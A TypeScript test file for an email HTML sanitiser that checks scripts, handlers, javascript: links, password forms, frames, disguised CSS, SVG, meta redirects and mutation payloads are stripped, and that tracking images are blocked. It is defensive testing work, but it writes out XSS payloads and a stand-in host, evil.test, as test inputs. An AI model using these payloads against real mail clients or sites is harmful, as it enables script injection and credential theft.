import { describe, expect, it } from 'vitest';
import { joinHtml } from './join-html.ts';
import { work } from './split-html.ts';

const sanitiseHtml = (
  html: string,
  {
    remoteImages,
    attachmentUrl = () => undefined,
  }: { remoteImages: boolean; attachmentUrl?: (id: string) => string | undefined },
) => joinHtml(work([html])[0] ?? [], { remoteImages, attachmentUrl });
const clean = (html: string, remoteImages = false) => sanitiseHtml(html, { remoteImages }).html;

describe('HTML that is made harmless', () => {
  it.each([
    ['scripts', '<p>a</p><script>alert(1)</script>'],
    ['handlers', '<p onclick="alert(1)">a</p>'],
    ['javascript addresses', '<a href="java\nscript:alert(1)">a</a>'],
    ['forms', '<form action="https://evil.test"><input name="password"><button>go</button></form>'],
    ['frames', '<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x">'],
    ['style sheets', '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.test">'],
    ['styles that cover the page', '<div style="position:fixed;top:0;left:0;z-index:9999">a</div>'],
    ['styles that load', '<div style="background:url(https://evil.test/x)">a</div>'],
    ['styles in disguise', '<div style="background:u\\72l(https://evil.test/x);width:expression(alert(1))">a</div>'],
    ['SVG', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['base and meta', '<base href="https://evil.test"><meta http-equiv="refresh" content="0;url=https://evil.test">'],
    ['mutations', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ])('takes out %s', (_, html) => {
    expect(clean(html)).not.toMatch(
      /script|onclick|onerror=alert|evil\.test|position|expression|<form|<input|<button|<iframe|<svg|<meta|<style/i,
    );
  });

  it('keeps what a letter looks like', () => {
    const letter =
      '<p style="color:#333;text-align:center">Hi <b>Anna</b></p><table border="1"><tr><td colspan="2">x</td></tr></table>';

    expect(clean(letter)).toBe(letter);
  });

  it('opens links outside, without telling from where', () => {
    expect(clean('<a href="https://shop.test">x</a>')).toBe(
      '<a href="https://shop.test" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('leaves remote images out until asked for, and counts them', () => {
    const html = '<img src="https://pixel.test/1.gif" alt="logo">';

    expect(sanitiseHtml(html, { remoteImages: false })).toEqual({ html: '<img alt="logo" />', blockedImages: 1 });
    expect(clean(html, true)).toContain('src="https://pixel.test/1.gif"');
  });

  it('shows images that came with the mail', () => {
    const shown = sanitiseHtml('<img src="cid:logo@x">', {
      remoteImages: false,
      attachmentUrl: (id) => `/attachments/${id}`,
    });

    expect(shown).toEqual({ html: '<img src="/attachments/logo@x" />', blockedImages: 0 });
  });

  it.each([
    ['lengths that never end', `<p style="margin:${'1'.repeat(5_000)}x;border:${'1'.repeat(5_000)}!">a</p>`],
    ['boxes in boxes', '<div>'.repeat(150_000)],
    [
      'closing tags that close nothing',
      `${'<b></i>'.repeat(60_000)}${'<td><p>'.repeat(60_000)}${'</i>'.repeat(60_000)}`,
    ],
    ['tags that are never finished', '<a '.repeat(300_000)],
    ['attributes without end', `<p ${'a=b '.repeat(200_000)}>`],
  ])('is quick about %s', (_, html) => {
    expect(clean(html)).not.toContain('margin');
  });

  it('keeps the text of what is nested too deep', () => {
    const shown = clean(`${'<div>'.repeat(400)}deep${'</div>'.repeat(400)}<p>after</p>`);

    expect(shown).toContain('deep');
    expect(shown.endsWith('</div><p>after</p>')).toBe(true);
  });

  it('keeps several lengths and borders', () => {
    const letter = '<p style="margin:0 auto 1.5em -2px;border:1px solid #ccc">a</p>';

    expect(clean(letter)).toBe(letter);
  });
});
